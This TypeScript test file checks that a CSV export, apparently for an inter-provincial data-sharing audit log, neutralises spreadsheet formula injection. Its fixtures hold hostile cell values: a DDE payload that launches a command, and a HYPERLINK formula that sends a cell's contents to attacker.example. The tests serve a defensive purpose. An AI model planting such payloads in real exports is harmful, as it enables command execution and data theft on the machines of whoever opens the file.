import { neutraliseFormula } from './csv-cell';
import { accessCsv, type AccessRecord } from './views/audit-model';
import { toCsv } from './util';

describe('CSV formula neutralising', () => {
  it('prefixes cells that a spreadsheet would read as a formula', () => {
    for (const text of ['=HYPERLINK("http://x","y")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1']) expect(neutraliseFormula(text)).toBe(`'${text}`);
    for (const text of ['执法协查', 'a=b', '', '913400007 = x']) expect(neutraliseFormula(text)).toBe(text);
    expect(neutraliseFormula(-5)).toBe('-5');
    expect(neutraliseFormula(undefined)).toBe('');
  });

  it('neutralises every column of an export, quoting still applied after the prefix', () => {
    expect(toCsv(['a', 'b'], [['=1+1', '-cmd|"/c calc"!A0']])).toBe('a,b\r\n\'=1+1,"\'-cmd|""/c calc""!A0"\r\n');
  });

  it('the sharing-audit export writes a purpose starting with = as text', () => {
    const record = {
      time: '2026-11-21T08:00:00Z',
      readerProvince: 'anhui',
      readerDepartment: 'ah-gateway',
      ownerProvince: 'shanghai',
      ownerDepartment: 'sh-samr',
      family: 'credit',
      resourceId: '@evil',
      purpose: '=HYPERLINK("https://attacker.example/?"&A1,"点击")',
      grantId: '+grant',
      outcome: 'granted',
      txId: 'tx',
      accessId: 'acc',
    } as unknown as AccessRecord;
    const row = accessCsv([record]).split('\r\n')[1] ?? '';
    expect(row).toContain('"\'=HYPERLINK(""https://attacker.example/?""&A1,""点击"")"');
    expect(row).toContain("'@evil");
    expect(row).toContain("'+grant");
    expect(row).not.toMatch(/(^|,)[=+@-]/);
  });
});
